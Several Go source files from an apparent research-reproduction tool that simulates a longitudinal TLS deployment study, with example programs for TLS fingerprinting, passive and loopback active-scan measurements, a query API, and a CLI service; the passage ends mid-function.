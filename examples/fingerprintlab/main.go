// Fingerprintlab exercises the §4 fingerprinting pipeline: it builds the
// fingerprint database, fingerprints a live Chrome-65-style hello (GREASE
// included) to demonstrate matching, reproduces Table 2 against simulated
// traffic, and prints the §4.1 lifetime statistics.
package main

import (
	"fmt"
	"log"
	"math/rand"
	"os"

	"tlsage/internal/clientdb"
	"tlsage/internal/core"
	"tlsage/internal/fingerprint"
)

func main() {
	db := fingerprint.BuildDefault()
	fmt.Printf("fingerprint database: %d entries (%d removed as ambiguous)\n",
		db.Size(), db.RemovedCount())

	// Fingerprint a Chrome 65 hello, GREASE and all, and look it up.
	chrome, _ := clientdb.ProfileByName("Chrome")
	rel, _ := chrome.ReleaseByVersion("65")
	hello := rel.Config.BuildHello(rand.New(rand.NewSource(99)), false)
	fp := fingerprint.FromClientHello(hello)
	if entry, ok := db.Lookup(fp); ok {
		fmt.Printf("live hello matched: %s (%s), versions %v\n",
			entry.Software, entry.Class, entry.Versions)
	} else {
		fmt.Println("live hello did not match (unexpected)")
	}

	// GREASE invariance: a second hello with different random GREASE values
	// produces the identical fingerprint.
	hello2 := rel.Config.BuildHello(rand.New(rand.NewSource(123)), false)
	if fp2 := fingerprint.FromClientHello(hello2); fp2 == fp {
		fmt.Println("GREASE invariance holds: same fingerprint across GREASE draws")
	} else {
		fmt.Println("GREASE invariance violated (unexpected)")
	}

	// Match the database against simulated traffic: Table 2.
	study := core.NewStudy(500)
	if err := study.Run(nil); err != nil {
		log.Fatal(err)
	}
	rep, err := study.Table2()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println()
	if err := rep.RenderTable2(os.Stdout); err != nil {
		log.Fatal(err)
	}

	// The same attribution rides the declarative query surface: agent:
	// columns carry ingest-time client-class attribution (the numbers behind
	// Table 2), fp: columns the top-32 fingerprints by volume with the rest
	// folded into fp:other.
	fmt.Println("\nattribution via the query surface:")
	for _, src := range []string{
		"over(agent:* / fp-conns)",        // total attributed coverage (Table 2's bottom line)
		"pct(agent:libraries / fp-conns)", // one class's monthly share
		"count(fp:other)",                 // volume beyond the top-K columns
	} {
		res, err := study.Query(src)
		if err != nil {
			log.Fatal(err)
		}
		if res.Kind == "scalar" {
			fmt.Printf("  %-34s = %.2f\n", src, res.Value)
		} else {
			last := res.Series.Points[len(res.Series.Points)-1]
			fmt.Printf("  %-34s = %.2f (at %s)\n", src, last.Value, last.Month)
		}
	}

	st, err := study.FingerprintDurations()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\n§4.1 lifetimes over %d fingerprints:\n", st.Total)
	fmt.Printf("  median %.0f d, mean %.1f d, 3rd quartile %.0f d, σ %.1f d, max %d d\n",
		st.MedianDays, st.MeanDays, st.Q3Days, st.StdDevDays, st.MaxDays)
	fmt.Printf("  single-day fingerprints: %d (%.1f%%), carrying %d of %d connections\n",
		st.SingleDay, 100*float64(st.SingleDay)/float64(st.Total), st.SingleDayConns, st.TotalConns)
	fmt.Printf("  fingerprints spanning >1200 days: %d\n", st.LongLived)
}
