// Quickstart: simulate the passive study at a small sample size and print
// Figure 2 (RC4 / CBC / AEAD negotiation over time) as an ASCII chart — the
// paper's headline ecosystem shift in under thirty lines.
package main

import (
	"fmt"
	"log"
	"os"

	"tlsage/internal/core"
)

func main() {
	study := core.NewStudy(400) // connections per month, Feb 2012 – Apr 2018
	if err := study.Run(nil); err != nil {
		log.Fatal(err)
	}

	// Figures come from the declarative catalog; "negotiated-classes" is
	// Figure 2 (study.Figure(2) resolves the same entry by number).
	fig, err := study.FigureByName("negotiated-classes")
	if err != nil {
		log.Fatal(err)
	}
	if err := fig.RenderChart(os.Stdout, 96, 18); err != nil {
		log.Fatal(err)
	}

	fmt.Printf("\nsimulated %d connections across %d months\n",
		study.Aggregate().TotalRecords(), len(study.Aggregate().Months()))
}
