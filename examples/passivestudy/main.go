// Passivestudy reproduces the full Notary-side measurement: it simulates
// the Feb 2012 – Apr 2018 window, streams every record through a teed sink
// into both the live aggregate and a Bro-style connection log, rebuilds the
// aggregate from that log with the sharded parallel reader (proving the
// post-hoc analysis path), and prints every figure plus the
// paper-vs-measured scalar report.
//
// Usage: passivestudy [connsPerMonth] [logPath]
package main

import (
	"fmt"
	"log"
	"os"
	"strconv"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
)

func main() {
	conns := 800
	if len(os.Args) > 1 {
		if n, err := strconv.Atoi(os.Args[1]); err == nil && n > 0 {
			conns = n
		}
	}
	logPath := "notary_conn.log"
	if len(os.Args) > 2 {
		logPath = os.Args[2]
	}

	logFile, err := os.Create(logPath)
	if err != nil {
		log.Fatal(err)
	}

	study := core.NewStudy(conns)
	if err := study.Run(logFile); err != nil {
		log.Fatal(err)
	}
	if err := logFile.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Fprintf(os.Stderr, "wrote %s (%d connections)\n", logPath, study.Aggregate().TotalRecords())

	// Post-hoc path: reload the log on all cores (LoadLog shards the TSV
	// across Options.Workers parse workers) and verify the aggregate matches.
	reloaded, err := os.Open(logPath)
	if err != nil {
		log.Fatal(err)
	}
	defer reloaded.Close()
	var fromLog core.Study
	fromLog.Options.Workers = 0 // 0 = GOMAXPROCS
	if err := fromLog.LoadLog(reloaded); err != nil {
		log.Fatal(err)
	}
	if fromLog.Aggregate().TotalRecords() != study.Aggregate().TotalRecords() {
		log.Fatalf("log reload mismatch: %d vs %d records",
			fromLog.Aggregate().TotalRecords(), study.Aggregate().TotalRecords())
	}
	fmt.Fprintln(os.Stderr, "log reload verified: sharded reload matches the streamed aggregate")

	figs, err := study.Figures()
	if err != nil {
		log.Fatal(err)
	}
	for _, fig := range figs {
		if err := fig.RenderTable(os.Stdout); err != nil {
			log.Fatal(err)
		}
		fmt.Println()
	}

	scalars, err := study.Scalars()
	if err != nil {
		log.Fatal(err)
	}
	if err := analysis.RenderScalars(os.Stdout, "Paper vs measured", scalars); err != nil {
		log.Fatal(err)
	}
}
