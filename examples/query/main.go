// Query: evaluate ad-hoc metric expressions beyond the figure catalog —
// first offline against a simulated study, then over HTTP against a live
// service hosting the same study, demonstrating that the two surfaces are
// the same query API (the served answer matches the offline one exactly).
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/service"
)

func main() {
	study := core.NewStudy(300)
	if err := study.Run(nil); err != nil {
		log.Fatal(err)
	}

	// Offline: the text grammar parses into a serializable analysis.Expr
	// and evaluates against the study's cached Frame.
	queries := []string{
		"at(pct(version:tls12 / established), 2018-02)", // a catalog-style read
		"over(null-negotiated / established)",           // whole-dataset ratio
		"max(pct(ext:heartbeat / total))",               // peak heartbeat advertisement
		"pct(sum(kex:ecdhe, kex:tls13) / established)",  // Figure 8's ECDHE series
	}
	fmt.Println("offline:")
	for _, src := range queries {
		res, err := study.Query(src)
		if err != nil {
			log.Fatal(err)
		}
		switch res.Kind {
		case "scalar":
			fmt.Printf("  %-46s = %8.4f\n", res.Query, res.Value)
		default:
			last := res.Series.Points[len(res.Series.Points)-1]
			fmt.Printf("  %-46s = series over %d months (last: %s %.2f)\n",
				res.Query, len(res.Series.Points), last.Month, last.Value)
		}
	}

	// Remote: the same study behind a multi-study router; POST the same
	// expression to /studies/notary/query and compare.
	rt := service.NewRouter()
	if err := rt.Add("notary", service.NewServer(study)); err != nil {
		log.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	hs := &http.Server{Handler: rt.Handler()}
	go hs.Serve(ln)
	defer hs.Close()

	const expr = "over(null-negotiated / established)"
	body, err := json.Marshal(map[string]string{"query": expr})
	if err != nil {
		log.Fatal(err)
	}
	resp, err := http.Post("http://"+ln.Addr().String()+"/studies/notary/query",
		"application/json", bytes.NewReader(body))
	if err != nil {
		log.Fatal(err)
	}
	raw, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		log.Fatal(err)
	}
	var served analysis.QueryResult
	if err := json.Unmarshal(raw, &served); err != nil {
		log.Fatal(err)
	}
	offline, err := study.Query(expr)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nover HTTP (generation %s):\n  %-46s = %8.4f\n",
		resp.Header.Get("X-Generation"), served.Query, served.Value)
	if served.Value == offline.Value {
		fmt.Println("  matches the offline evaluation exactly")
	} else {
		log.Fatalf("served %v != offline %v", served.Value, offline.Value)
	}
}
