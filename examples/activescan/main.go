// Activescan reproduces the Censys-side measurement over real TCP: it
// samples a server farm from the host-census population at two snapshot
// dates (September 2015 and May 2018), binds every host to a loopback
// listener, runs the four scan probes against the farm with a concurrent
// zgrab-style scanner, and prints the §5.1–§5.6 server-side scalars.
//
// Usage: activescan [hosts]
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"strconv"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/timeline"
)

func main() {
	hosts := 400
	if len(os.Args) > 1 {
		if n, err := strconv.Atoi(os.Args[1]); err == nil && n > 0 {
			hosts = n
		}
	}

	run := func(date timeline.Date) *core.CampaignReport {
		campaign := &core.ScanCampaign{
			Date:    date,
			Hosts:   hosts,
			Workers: 32,
			Seed:    7,
			Timeout: 3 * time.Second,
		}
		start := time.Now()
		rep, err := campaign.Run(context.Background())
		if err != nil {
			log.Fatal(err)
		}
		fmt.Fprintf(os.Stderr, "scanned %d hosts × %d probes at %s in %v\n",
			hosts, len(rep.Probes), date, time.Since(start).Round(time.Millisecond))
		return rep
	}

	sep15 := run(timeline.D(2015, time.September, 15))
	may18 := run(timeline.D(2018, time.May, 13))

	for _, snap := range []struct {
		label string
		rep   *core.CampaignReport
	}{{"September 2015", sep15}, {"May 2018", may18}} {
		fmt.Printf("\n%s (%d hosts):\n", snap.label, snap.rep.Hosts)
		fmt.Printf("  SSL3 support        %6.2f%%\n", snap.rep.SSL3SupportPct())
		fmt.Printf("  chose RC4           %6.2f%%\n", snap.rep.RC4ChosenPct())
		fmt.Printf("  chose CBC           %6.2f%%\n", snap.rep.CBCChosenPct())
		fmt.Printf("  chose 3DES          %6.2f%%\n", snap.rep.TDESChosenPct())
		fmt.Printf("  heartbeat support   %6.2f%%\n", snap.rep.HeartbeatSupportPct())
		fmt.Printf("  Heartbleed vuln.    %6.2f%%\n", snap.rep.HeartbleedVulnerablePct())
		fmt.Printf("  export support      %6.2f%%\n", snap.rep.ExportSupportPct())
		for name, sum := range snap.rep.Probes {
			fmt.Printf("  probe %-12s answered %4d, alerted %4d, errors %d\n",
				name, sum.Answered, sum.Alerted, sum.Errors)
		}
	}

	fmt.Println()
	if err := analysis.RenderScalars(os.Stdout, "Paper vs measured (active scans)",
		core.ScanScalars(sep15, may18)); err != nil {
		log.Fatal(err)
	}
}
