// Attackimpact quantifies §7.4 of the paper — "Impact of Security
// Research" — over the simulated ecosystem: for each high-profile event it
// reports the targeted metric just before disclosure and 6/12 months after.
// The paper's qualitative observations become visible deltas: the Snowden
// correlation with forward secrecy, the slow grind of RC4 retirement, the
// absence of an immediate CBC reaction to Lucky 13, and the post-Sweet32
// 3DES decline.
package main

import (
	"fmt"
	"log"
	"os"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
)

func main() {
	study := core.NewStudy(800)
	if err := study.Run(nil); err != nil {
		log.Fatal(err)
	}
	// Impacts evaluate against the study's cached columnar frame.
	impacts, err := study.Impacts()
	if err != nil {
		log.Fatal(err)
	}
	if err := analysis.RenderImpacts(os.Stdout, impacts); err != nil {
		log.Fatal(err)
	}

	fmt.Println("\nReadings (cf. §7.4):")
	for _, im := range impacts {
		verdict := "slow or indirect response"
		d := im.Delta12()
		switch {
		case d <= -10:
			verdict = "strong decline within a year"
		case d >= 10:
			verdict = "strong rise within a year"
		case d <= -3 || d >= 3:
			verdict = "visible shift within a year"
		}
		fmt.Printf("  %-14s %-28s %s\n", im.Event.Name, im.Metric, verdict)
	}
}
