module tlsage

go 1.24
