// Command tlstrend reproduces the measurements of "Coming of Age: A
// Longitudinal Study of TLS Deployment" (IMC 2018) over the synthetic
// ecosystem.
//
// Usage:
//
//	tlstrend simulate   [-conns N] [-seed S] [-workers W] [-out conn.log]   run the passive study, optionally writing a TSV log
//	tlstrend loadlog    [-in conn.log] [-workers W] [-figure N] [-chart]    post-hoc analysis of a TSV log (sharded parse)
//	tlstrend serve      [-http ADDR] [-tcp ADDR] [-out conn.log] [-studies a,b] [-snapshot-dir DIR] [-max-inflight N] [-queue-bound N] [-query-cache N] [-upstream URL [-push-interval D] [-push-source S]] [-union ID]  live notary service: TSV + binary-batch ingest, JSON query endpoints, durable snapshots, restart recovery, cached queries; -upstream turns the node into an edge collector pushing aggregate deltas, -union hosts a federated union study
//	tlstrend feed       [-addr URL | -tcp ADDR] [-in conn.log | -conns N] [-binary [-batch N]] [-retry N]  stream a log or a live simulation into a server
//	tlstrend query      -q EXPR [-in conn.log | -conns N | -addr URL [-study ID]]  evaluate a metric expression offline or remotely
//	                    (column families include fp:<id12|other> top-K fingerprints and agent:<class> client attribution)
//	tlstrend figure     [-n N | -name NAME] [-conns N] [-chart]  print one catalog figure as table or chart
//	tlstrend figures    [-conns N]                             print all figures
//	tlstrend metrics                                           list the figure catalog (no simulation)
//	tlstrend table      [-n N]                                 print Table 1, 3, 4, 5 or 6
//	tlstrend table2     [-conns N]                             print the Table 2 reproduction
//	tlstrend scan       [-hosts N] [-date YYYY-MM-DD]          run an active scan campaign over a local farm
//	tlstrend scansweep  [-hosts N] [-step M] [-alexa] [-serve ADDR] [-push URL]  campaigns across the Censys window, hosted as a queryable study and/or pushed to a core's /merge
//	tlstrend fingerprints [-conns N]                           fingerprint DB summary and §4.1 lifetimes
//	tlstrend extensions [-conns N] [-chart]                    extension uptake + TLS 1.3 variants
//	tlstrend experiments [-conns N] [-hosts N]                 full paper-vs-measured report
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/federation"
	"tlsage/internal/notary"
	"tlsage/internal/service"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]
	var err error
	switch cmd {
	case "simulate":
		err = cmdSimulate(args)
	case "loadlog":
		err = cmdLoadLog(args)
	case "serve":
		err = cmdServe(args)
	case "feed":
		err = cmdFeed(args)
	case "query":
		err = cmdQuery(args)
	case "figure":
		err = cmdFigure(args)
	case "figures":
		err = cmdFigures(args)
	case "metrics":
		err = cmdMetrics(args)
	case "table":
		err = cmdTable(args)
	case "table2":
		err = cmdTable2(args)
	case "scan":
		err = cmdScan(args)
	case "scansweep":
		err = cmdScanSweep(args)
	case "fingerprints":
		err = cmdFingerprints(args)
	case "extensions":
		err = cmdExtensions(args)
	case "experiments":
		err = cmdExperiments(args)
	case "help", "-h", "--help":
		usage()
	default:
		fmt.Fprintf(os.Stderr, "tlstrend: unknown command %q\n", cmd)
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "tlstrend:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprint(os.Stderr, `tlstrend — reproduce "Coming of Age: A Longitudinal Study of TLS Deployment"

commands:
  simulate      run the passive Notary study (optionally write a TSV log)
  loadlog       rebuild the study from a TSV log (post-hoc, sharded parsing)
  serve         run the live notary service: ingest TSV or binary-batch streams, serve JSON queries;
                -upstream pushes merged shards upstream as aggregate deltas (edge collector),
                -union hosts a study that is the live union of every hosted study
  feed          stream a log or a live simulation into a running server (TSV or -binary batch frames)
  query         evaluate a metric expression (see README grammar) offline or against a server;
                families span versions, ciphers, curves, extensions, and the attribution
                columns fp:<id|other> (top-32 fingerprints) and agent:<class> (client classes)
  figure        print one catalog figure (-n 1–10 or -name) as a table or ASCII chart
  figures       print every figure
  metrics       list the declarative figure catalog (ids, names, series)
  table         print Table 1, 3, 4, 5 or 6
  table2        print the Table 2 fingerprint-summary reproduction
  scan          run an active Censys-style campaign over a local TCP farm
  scansweep     run campaigns across Aug 2015 – May 2018 (the Censys window);
                -serve hosts the results as study 'scan' on the query/figure API,
                -push ships them to a running core's POST /merge as one delta
  fingerprints  fingerprint database summary and §4.1 lifetime stats
  extensions    extension-uptake figure (RIE, EtM, EMS, ...) and TLS 1.3 variants
  experiments   full paper-vs-measured report (passive + active + fingerprints)
`)
}

func runStudy(conns int, seed int64, workers int, logPath string) (*core.Study, error) {
	s := core.NewStudy(conns)
	s.Options.Seed = seed
	s.Options.Workers = workers
	var out *os.File
	var err error
	if logPath != "" {
		out, err = os.Create(logPath)
		if err != nil {
			return nil, err
		}
	}
	start := time.Now()
	if out != nil {
		err = s.Run(out)
		// A full disk surfaces at Close (the log is buffered); reporting
		// success with a truncated log would be a silent data loss.
		if cerr := out.Close(); cerr != nil && err == nil {
			err = fmt.Errorf("closing %s: %w", logPath, cerr)
		}
	} else {
		err = s.Run(nil)
	}
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(os.Stderr, "simulated %d connections in %v\n",
		s.Aggregate().TotalRecords(), time.Since(start).Round(time.Millisecond))
	return s, nil
}

func cmdSimulate(args []string) error {
	fs := flag.NewFlagSet("simulate", flag.ExitOnError)
	conns := fs.Int("conns", 1000, "connections per month")
	seed := fs.Int64("seed", 1, "simulation seed")
	workers := fs.Int("workers", 0, "simulation workers (0 = all cores)")
	out := fs.String("out", "", "write a Bro-style TSV connection log to this path")
	if err := fs.Parse(args); err != nil {
		return err
	}
	s, err := runStudy(*conns, *seed, *workers, *out)
	if err != nil {
		return err
	}
	scalars, err := s.Scalars()
	if err != nil {
		return err
	}
	return analysis.RenderScalars(os.Stdout, "Passive study scalars (paper vs measured)", scalars)
}

func cmdLoadLog(args []string) error {
	fs := flag.NewFlagSet("loadlog", flag.ExitOnError)
	in := fs.String("in", "notary_conn.log", "TSV connection log to analyze")
	workers := fs.Int("workers", 0, "parse workers (0 = all cores, 1 = serial)")
	figure := fs.Int("figure", 0, "also print figure N (1–10)")
	chart := fs.Bool("chart", false, "render the figure as an ASCII chart")
	if err := fs.Parse(args); err != nil {
		return err
	}
	f, err := os.Open(*in)
	if err != nil {
		return err
	}
	var s core.Study
	s.Options.Workers = *workers
	start := time.Now()
	loadErr := s.LoadLog(f)
	if cerr := f.Close(); cerr != nil && loadErr == nil {
		loadErr = fmt.Errorf("closing %s: %w", *in, cerr)
	}
	if loadErr != nil {
		return loadErr
	}
	fmt.Fprintf(os.Stderr, "loaded %d records from %s in %v\n",
		s.Aggregate().TotalRecords(), *in, time.Since(start).Round(time.Millisecond))
	if *figure > 0 {
		fig, err := s.Figure(*figure)
		if err != nil {
			return err
		}
		if *chart {
			if err := fig.RenderChart(os.Stdout, 100, 20); err != nil {
				return err
			}
		} else if err := fig.RenderTable(os.Stdout); err != nil {
			return err
		}
		fmt.Println()
	}
	scalars, err := s.Scalars()
	if err != nil {
		return err
	}
	return analysis.RenderScalars(os.Stdout, "Post-hoc log analysis (paper vs measured)", scalars)
}

// cmdServe runs the live notary service: one hot, initially empty study per
// vantage point (-studies), each ingesting TSV record streams (HTTP POST
// /ingest, optionally raw TCP into the default study) and answering
// figure/scalar/query requests as JSON while ingestion continues. Studies
// are served under /studies/{id}/; the first id also answers the legacy
// root routes.
func cmdServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ExitOnError)
	httpAddr := fs.String("http", "127.0.0.1:8080", "HTTP listen address (ingest + query)")
	tcpAddr := fs.String("tcp", "", "optional raw-TCP ingest listen address (TSV or binary batch, sniffed; default study)")
	outPath := fs.String("out", "", "tee every record ingested into the default study to this TSV log")
	flush := fs.Int("flush", 0, "records per ingest shard before merging (0 = default)")
	queueBound := fs.Int("queue-bound", service.DefaultQueueBound,
		"parsed shards buffered between stream readers and the merge loop; full = shed with 429/busy (0 = merge inline)")
	studies := fs.String("studies", "notary", "comma-separated study ids to host; the first is the default")
	snapDir := fs.String("snapshot-dir", "", "durable snapshot directory for the default study (enables crash recovery)")
	snapEvery := fs.Uint64("snapshot-every", 50000, "snapshot after this many new records (0 = off)")
	snapInterval := fs.Duration("snapshot-interval", 30*time.Second, "snapshot on this timer when records arrived (0 = off)")
	snapKeep := fs.Int("snapshot-keep", service.DefaultSnapshotKeep, "snapshots to retain")
	maxInflight := fs.Int("max-inflight", 64, "concurrent ingest streams before shedding with 429/busy (0 = unbounded)")
	maxBody := fs.Int64("max-body", 0, "max POST /ingest body bytes, answered with 413 beyond (0 = unlimited)")
	idleTimeout := fs.Duration("idle-timeout", 0, "idle read deadline on raw-TCP ingest connections (0 = none)")
	cacheEntries := fs.Int("query-cache", 1024, "query result cache entries, shared across studies (0 = disable caching)")
	cacheBytes := fs.Int64("query-cache-bytes", 8<<20, "approximate byte budget for the query result cache")
	upstream := fs.String("upstream", "", "edge mode: push the default study's merged shards as delta frames to this upstream study URL (POST {url}/merge)")
	pushInterval := fs.Duration("push-interval", federation.DefaultPushInterval, "delta push cadence in edge mode")
	pushSource := fs.String("push-source", "", "source name for pushed deltas (default: the default study id)")
	unionID := fs.String("union", "", "also host a union study under this id, federating every hosted study")
	if err := fs.Parse(args); err != nil {
		return err
	}

	// One generation-keyed result cache fronts every hosted study: keys are
	// namespaced by study id, so dashboards hammering /studies/{id}/query
	// share the budget without cross-study collisions.
	var queryCache *analysis.QueryCache
	if *cacheEntries > 0 {
		queryCache = analysis.NewQueryCache(*cacheEntries, *cacheBytes)
	}

	// Restart recovery for the default study: newest intact snapshot plus
	// the tail of the previous run's -out log (opened further down in
	// whatever mode keeps the recovered records durable).
	defaultStudy := core.NewLiveStudy()
	var recovery service.RecoveryInfo
	if *snapDir != "" || *outPath != "" {
		st, info, err := service.RecoverStudy(*snapDir, *outPath, nil)
		if err != nil {
			return fmt.Errorf("recovering previous state: %w", err)
		}
		defaultStudy = st
		recovery = info
		if info.Records() > 0 {
			fmt.Fprintf(os.Stderr, "recovered %d records (%d from snapshot %s, %d replayed from %s)\n",
				info.Records(), info.SnapshotRecords, info.SnapshotPath, info.ReplayedRecords, *outPath)
		}
		// Compact: one fresh snapshot now covers everything recovered, so
		// the truncate-and-rebase of the log below loses nothing.
		if *snapDir != "" && info.Records() > 0 {
			_, gen, err := service.WriteStudySnapshot(*snapDir, st, *snapKeep)
			if err != nil {
				return fmt.Errorf("compacting recovered state: %w", err)
			}
			fmt.Fprintf(os.Stderr, "compacted recovery into snapshot generation %d\n", gen)
		}
	}

	// Edge mode: the pusher is built BEFORE the ingest log is reopened below
	// — with snapshots, OpenIngestLog truncates-and-rebases the previous
	// run's log, and the unshipped tail (records past the persisted
	// shipped-through cursor) must be replayed out of it first.
	var pusher *federation.Pusher
	if *upstream != "" {
		src := *pushSource
		if src == "" {
			src = strings.TrimSpace(strings.Split(*studies, ",")[0])
		}
		statePath := ""
		if *snapDir != "" {
			statePath = filepath.Join(*snapDir, "shipped.gen")
		}
		var shipped uint64
		if statePath != "" {
			var err error
			if shipped, err = federation.LoadShippedState(statePath); err != nil {
				return err
			}
		}
		_, _, recoveredGen, err := defaultStudy.Counts()
		if err != nil {
			return err
		}
		if shipped > recoveredGen {
			fmt.Fprintf(os.Stderr,
				"warning: upstream was acked through generation %d but only %d recovered locally; the upstream keeps the difference\n",
				shipped, recoveredGen)
		}
		var initial *notary.Aggregate
		var rebase func(uint64) (*notary.Aggregate, error)
		if *outPath != "" {
			rebase = func(from uint64) (*notary.Aggregate, error) {
				return replayUnshipped(defaultStudy, *outPath, from)
			}
			if shipped < recoveredGen {
				if initial, err = replayUnshipped(defaultStudy, *outPath, shipped); err != nil {
					return fmt.Errorf("replaying unshipped records for federation: %w", err)
				}
				if initial != nil && initial.Generation() > 0 {
					fmt.Fprintf(os.Stderr, "federation: %d recovered records past the shipped cursor (%d) queued for push\n",
						initial.Generation(), shipped)
				}
			}
		} else if shipped < recoveredGen {
			fmt.Fprintf(os.Stderr,
				"warning: %d recovered records past the shipped cursor cannot be rebuilt without -out; they will not be pushed\n",
				recoveredGen-shipped)
		}
		pusher, err = federation.NewPusher(federation.PusherOptions{
			Source:    src,
			Upstream:  *upstream,
			Interval:  *pushInterval,
			Shipped:   shipped,
			Initial:   initial,
			StatePath: statePath,
			Rebase:    rebase,
			Logf: func(format string, args ...any) {
				fmt.Fprintf(os.Stderr, format+"\n", args...)
			},
		})
		if err != nil {
			return err
		}
		fmt.Fprintf(os.Stderr, "edge mode: pushing deltas for source %q to %s every %v\n", src, *upstream, *pushInterval)
	}

	var logFile *os.File
	rt := service.NewRouter()
	var srv *service.Server // the default study's server (TCP ingest, -out tee)
	for i, id := range strings.Split(*studies, ",") {
		id = strings.TrimSpace(id)
		opts := []service.Option{
			service.WithFlushEvery(*flush),
			service.WithQueueBound(*queueBound),
			service.WithMaxInFlight(*maxInflight),
			service.WithMaxBodyBytes(*maxBody),
			service.WithIdleTimeout(*idleTimeout),
		}
		if queryCache != nil {
			opts = append(opts, service.WithQueryCache(queryCache, id))
		}
		study := core.NewLiveStudy()
		if i == 0 {
			study = defaultStudy
			if pusher != nil {
				opts = append(opts, service.WithPusher(pusher))
			}
			if *outPath != "" {
				// With snapshots the log restarts behind a #base directive
				// (the compaction above covers it); without, it appends so
				// the replayed records stay durable.
				_, _, gen, cerrs := defaultStudy.Counts()
				if cerrs != nil {
					return cerrs
				}
				f, err := service.OpenIngestLog(*outPath, gen, *snapDir != "", recovery.TornLine)
				if err != nil {
					return err
				}
				logFile = f
				opts = append(opts, service.WithLogSink(notary.NewLogWriter(f)))
			}
			if *snapDir != "" {
				opts = append(opts, service.WithDurability(service.DurabilityOptions{
					Dir:          *snapDir,
					EveryRecords: *snapEvery,
					Interval:     *snapInterval,
					Keep:         *snapKeep,
				}))
			}
		}
		s := service.NewServer(study, opts...)
		if err := rt.Add(id, s); err != nil {
			return err
		}
		if i == 0 {
			srv = s
		}
	}
	if *unionID != "" {
		uopts := []service.Option{
			service.WithMaxInFlight(*maxInflight),
			service.WithMaxBodyBytes(*maxBody),
		}
		if queryCache != nil {
			uopts = append(uopts, service.WithQueryCache(queryCache, *unionID))
		}
		us := service.NewServer(core.NewLiveStudy(), uopts...)
		if err := rt.Union(*unionID, us, rt.IDs()...); err != nil {
			return err
		}
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	httpLn, err := net.Listen("tcp", *httpAddr)
	if err != nil {
		return err
	}
	hs := &http.Server{Handler: rt.Handler()}
	errc := make(chan error, 2)
	go func() {
		if err := hs.Serve(httpLn); err != nil && err != http.ErrServerClosed {
			errc <- err
		}
	}()
	fmt.Fprintf(os.Stderr, "serving ingest + queries on http://%s (studies: %s)\n",
		httpLn.Addr(), strings.Join(rt.IDs(), ", "))
	if *tcpAddr != "" {
		ln, err := net.Listen("tcp", *tcpAddr)
		if err != nil {
			hs.Close()
			return err
		}
		go func() {
			if err := srv.ServeTCP(ln); err != nil {
				errc <- err
			}
		}()
		fmt.Fprintf(os.Stderr, "raw ingest (TSV or binary batch) on tcp://%s\n", ln.Addr())
	}

	var runErr error
	select {
	case <-ctx.Done():
		fmt.Fprintln(os.Stderr, "shutting down")
	case runErr = <-errc:
	}
	shutCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := hs.Shutdown(shutCtx); err != nil && runErr == nil {
		runErr = err
	}
	// rt.Close closes every hosted server — stopping TCP listeners and
	// flushing the teed log writer; the file close can still fail on a full
	// disk, so it is checked too.
	if err := rt.Close(); err != nil && runErr == nil {
		runErr = err
	}
	if logFile != nil {
		if err := logFile.Close(); err != nil && runErr == nil {
			runErr = fmt.Errorf("closing %s: %w", *outPath, err)
		}
	}
	for _, id := range rt.IDs() {
		s, _ := rt.Server(id)
		if records, months, gen, err := s.Study().Counts(); err == nil {
			fmt.Fprintf(os.Stderr, "final state of %s: %d records over %d months (generation %d)\n",
				id, records, months, gen)
		}
	}
	return runErr
}

// replayUnshipped rebuilds the merged contribution of the -out log's
// records past the shipped-through generation: the edge's durable source of
// truth for federation recovery (startup Initial) and 409 rebasing. Shards
// come from the study so client attribution matches the live ingest path. A
// torn final line (crash mid-write) keeps the valid prefix with a warning —
// the same tolerance snapshot recovery applies.
func replayUnshipped(study *core.Study, path string, from uint64) (*notary.Aggregate, error) {
	f, err := os.Open(path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	defer f.Close()
	shard := study.NewShard()
	if _, _, err := notary.ReadLogTail(f, from, shard); err != nil {
		var le *notary.LineError
		if !errors.As(err, &le) {
			return nil, err
		}
		fmt.Fprintf(os.Stderr, "warning: replaying %s past generation %d: %v (keeping the valid prefix)\n",
			path, from, err)
	}
	return shard, nil
}

// cmdFeed streams records into a running serve instance: either a replay of
// a TSV connection log or a live simulation encoded on the fly. With
// -binary the stream travels as length-prefixed batch frames (a TSV input
// file is transcoded on the fly) — the fast path for bulk replay. With
// -retry, a stream the server sheds under load (HTTP 429 or a TCP "busy"
// line) is retried with exponential backoff and jitter, honoring the
// server's Retry-After hint.
func cmdFeed(args []string) error {
	fs := flag.NewFlagSet("feed", flag.ExitOnError)
	addr := fs.String("addr", "http://127.0.0.1:8080", "server base URL (HTTP ingest)")
	tcpAddr := fs.String("tcp", "", "stream over raw TCP to this address instead of HTTP")
	in := fs.String("in", "", "TSV connection log to replay (empty = simulate live)")
	conns := fs.Int("conns", 1000, "connections per month when simulating")
	seed := fs.Int64("seed", 1, "simulation seed")
